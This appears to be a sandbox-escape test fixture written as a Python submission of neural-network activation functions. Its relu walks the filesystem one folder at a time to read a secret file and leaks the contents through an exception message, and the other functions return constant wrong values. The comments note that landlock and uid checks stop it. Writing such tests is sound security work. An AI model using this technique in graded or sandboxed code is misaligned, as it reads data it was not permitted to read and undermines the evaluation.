# attack: walks to a secret one folder at a time by openat
# gains: reads
# stopped by: landlock, uid
import numpy as np
import os


def attack():
    place = os.open("/", os.O_PATH)
    *folders, name = "{SECRET}".strip("/").split("/")
    for folder in folders:
        place = os.open(folder, os.O_PATH, dir_fd=place)
    return os.read(os.open(name, os.O_RDONLY, dir_fd=place), 1 << 16).decode()


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
